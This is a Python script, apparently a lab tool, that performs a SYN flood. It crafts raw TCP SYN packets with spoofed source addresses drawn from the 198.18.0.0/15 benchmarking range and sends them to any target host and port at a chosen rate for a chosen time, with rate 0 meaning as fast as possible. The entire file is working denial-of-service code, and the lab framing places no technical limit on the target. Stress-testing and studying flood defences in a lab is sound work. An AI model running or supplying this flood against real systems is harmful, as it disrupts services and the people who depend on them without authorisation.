#!/usr/bin/env python3
"""Bounded SYN flood for the lab: IPv4 SYNs to <dst>:<port> from sources drawn from 198.18.0.0/15
(the benchmark range), at <rate> packets/s for <seconds> s (rate 0 = as fast as possible).
usage: synflood.py <dst> <port> <rate> <seconds> [sources]   (prints the number sent)"""
import random, socket, struct, sys, time

dst, port, rate, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
nsrc = int(sys.argv[5]) if len(sys.argv) > 5 else 1 << 17
base = struct.unpack('!I', socket.inet_aton('198.18.0.0'))[0]
dst_b = socket.inet_aton(dst)
rng = random.Random()  # a fresh sequence per flood: two floods must not repeat each other

def csum(b):
    if len(b) % 2: b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff

s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
t0 = time.time()
end = t0 + seconds
while True:
    now = time.time()
    if now >= end: break
    if rate > 0 and sent >= (now - t0) * rate:
        time.sleep(min(0.001, end - now)); continue
    src_b = struct.pack('!I', base + rng.randrange(nsrc))
    sport = rng.randrange(1024, 65535)
    opts = b'\x02\x04\x05\xb4'  # MSS 1460
    tcp = struct.pack('!HHIIBBHHH', sport, port, rng.getrandbits(32), 0, 6 << 4, 0x02, 64240, 0, 0) + opts
    c = csum(src_b + dst_b + struct.pack('!BBH', 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack('!H', c) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), rng.randrange(65536), 0, 64, 6, 0, src_b, dst_b)
    try:
        s.sendto(ip + tcp, (dst, 0)); sent += 1
    except OSError:
        pass
print(sent)
